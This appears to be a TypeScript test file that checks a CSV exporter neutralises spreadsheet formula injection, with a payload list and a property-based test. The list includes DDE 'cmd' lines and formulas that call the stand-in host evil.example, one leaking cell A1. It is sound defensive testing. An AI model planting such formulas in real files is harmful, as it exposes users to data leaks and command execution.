import fc from 'fast-check'
import { afterAll, describe, expect, test } from 'vitest'
import { startControlPlane } from '../testing'
import { textField } from './formats/csv'
import { exported, MAY, objectsOf, organizationWith, readCsv } from './testing'

const plane = await startControlPlane({ jobs: true })
afterAll(() => plane.stop())

/** What makes spreadsheets calculate, call out or run something, in the ways that hide it. */
const PAYLOADS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  '=cmd|" /C calc"!A0',
  '=HYPERLINK("http://evil.example/?"&A1,"x")',
  '=IMPORTXML("http://evil.example","//a")',
  '=WEBSERVICE("http://evil.example")',
  '=DDE("cmd","/C calc","x")',
  '+cmd|"/C calc"!A0',
  '-cmd|"/C calc"!A0',
  '@cmd|"/C calc"!A0',
  ' =1+1',
  '   =1+1',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n=1+1',
  '\tplain',
  '\rplain',
  '\u00a0=1+1',
  '\u2003=1+1',
  '\u3000=1+1',
  '\ufeff=1+1',
  '\u200b=1+1',
  '\u200e=1+1',
  '\u0001=1+1',
  '\u001f@x',
  '\uff1d1+1',
  '\uff0b1+1',
  '\uff0d1+1',
  '\uff20x',
  ' \uff1d1+1',
  '\u22121+1',
  '\ufe63x',
  '\ufe62x',
  '"=1+1',
  '",=1+1',
  '"\r\n=1+1',
  '=1+1";=1+1',
]

/** As a spreadsheet sees a cell: without what it strips, and with full width as half. */
const isFormula = (cell: string) => /^[=+\-@\t\r\n]/.test(cell.normalize('NFKC').replace(/^[\s\p{Cc}\p{Cf}]+/u, ''))
const TEXTS = [
  'token_name',
  'token_id',
  'token_secret_id',
  'team_id',
  'user_id',
  'agent_id',
  'user_agent',
  'conversation_id',
  'request_id',
  'traceparent',
  'reason_code',
  'error_code',
  'escalation_id',
  'degraded',
  'config_id',
  'config_name',
  'config_version',
  'provider',
  'target_id',
  'model',
  'model_requested',
  'route',
  'client_ip',
] as const
const home = await organizationWith(plane, PAYLOADS.length, (index) =>
  Object.fromEntries(TEXTS.map((name) => [name, PAYLOADS[index] ?? ''])),
)
const { bytes } = await exported(await home.as('role_exporter'), { format: 'csv', time_window: MAY })
const rows = objectsOf(readCsv(bytes.toString()))

describe('a spreadsheet calculates nothing that somebody else wrote', () => {
  test.each(TEXTS)('%s', (name) => {
    const cells = rows.map((row) => row[name] ?? '')
    expect(cells).toHaveLength(PAYLOADS.length)
    expect(cells.filter(isFormula)).toEqual([])
    // Nothing is lost: an apostrophe in front is all that is added.
    const stripped = cells.map((cell) => cell.replace(/^'/, ''))
    expect(stripped.toSorted()).toEqual(PAYLOADS.toSorted())
  })

  test('whatever the text', () => {
    const dangerous = fc.tuple(
      fc.stringMatching(/^[ \t\r\n\u00a0\u200b]{0,3}$/),
      fc.constantFrom(...'=+-@\uff1d\uff0b\uff0d\uff20'),
      fc.string(),
    )
    fc.assert(
      fc.property(
        fc.oneof(
          dangerous.map((parts) => parts.join('')),
          fc.string({ unit: 'binary' }),
        ),
        (text) => {
          const [[cell = ''] = []] = readCsv(`${textField(text)}\r\n`)
          expect(isFormula(cell)).toBe(false)
          expect([text, `'${text}`]).toContain(cell)
        },
      ),
      { numRuns: 2_000 },
    )
  })
})
